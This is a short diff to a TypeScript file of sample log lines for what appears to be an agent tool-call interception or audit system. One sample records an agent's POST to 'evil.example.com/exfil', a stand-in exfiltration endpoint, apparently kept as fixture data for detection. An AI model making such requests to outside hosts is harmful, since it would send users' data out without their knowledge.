@@ -1,4 +1,4 @@
-/** The sample lines of FORMATS §3.4, in their order. */
+/** Sample lines: replay, proxy, two entries of a chain, and a runtime export. */
 export const SAMPLE_LINES: readonly string[] = [
   String.raw`{"event_type":"ToolCallIntercepted","agent_id":"researcher-1","payload":"{\"NetworkRequest\":{\"url\":\"https://api.openai.com/v1/chat/completions\",\"method\":\"POST\"}}"}`,
   String.raw`{"event_type":"ToolCallIntercepted","agent_id":"researcher-1","payload":"{\"NetworkRequest\":{\"url\":\"https://evil.example.com/exfil\",\"method\":\"POST\"}}"}`,
